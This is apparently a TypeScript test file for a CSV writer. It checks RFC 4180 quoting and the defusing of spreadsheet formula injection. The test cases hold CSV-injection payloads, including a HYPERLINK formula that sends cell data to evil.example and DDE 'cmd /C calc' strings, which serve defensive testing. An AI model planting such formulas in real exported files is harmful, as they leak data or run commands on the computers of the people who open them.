/** CSV cells: RFC 4180 quoting, and formula injection defused for every dangerous start. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { csvCell, csvRow } from "../../src/output/csv.js";
import { parseCsv } from "./fixtures.js";

test("plain text is written as it is", () => {
  assert.equal(csvCell("powershell.exe"), "powershell.exe");
  assert.equal(csvCell(""), "");
  assert.equal(csvCell("C:\\Windows\\System32"), "C:\\Windows\\System32");
});

test("commas, quotes, CR and LF are quoted, quotes doubled (RFC 4180 section 2)", () => {
  assert.equal(csvCell("a,b"), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell("line1\nline2"), '"line1\nline2"');
  assert.equal(csvCell("line1\r\nline2"), '"line1\r\nline2"');
  assert.equal(csvCell('"'), '""""');
});

test("unicode passes through unchanged", () => {
  for (const text of ["ユーザー", "Ærø ¦ straße", "😀 emoji", "\u202eexe.txt", "مرحبا"])
    assert.equal(csvCell(text), text);
});

test("each formula start gets a leading quote (OWASP CSV injection)", () => {
  const payloads: [string, string][] = [
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1", "'\t=1"],
    ["\tplain", "'\tplain"],
    ["\r=1", `"'\r=1"`],
    ["-enc SQBFAFgA", "'-enc SQBFAFgA"],
  ];
  for (const [input, expected] of payloads) assert.equal(csvCell(input), expected, JSON.stringify(input));
});

test("a formula after leading whitespace is defused too", () => {
  assert.equal(csvCell("   =1+1"), "'   =1+1");
  assert.equal(csvCell(" @SUM(A1)"), "' @SUM(A1)");
  assert.equal(csvCell("\u00a0+1"), "'\u00a0+1");
  assert.equal(csvCell("\n-1"), `"'\n-1"`);
});

test("a formula character later in the text is left alone", () => {
  assert.equal(csvCell("a=b"), "a=b");
  assert.equal(csvCell("user@corp"), "user@corp");
  assert.equal(csvCell("x -y"), "x -y");
});

test("rows are CRLF-terminated and read back as written, defused cells with their quote", () => {
  const cells = ["=cmd", "a,b", 'q"uote', "multi\nline", "ユーザー", "", "-5"];
  const text = csvRow(cells) + csvRow(["x", "y"]);
  assert.ok(text.endsWith("\r\n"));
  const [first, second] = parseCsv(text);
  assert.deepEqual(first, ["'=cmd", "a,b", 'q"uote', "multi\nline", "ユーザー", "", "'-5"]);
  assert.deepEqual(second, ["x", "y"]);
});
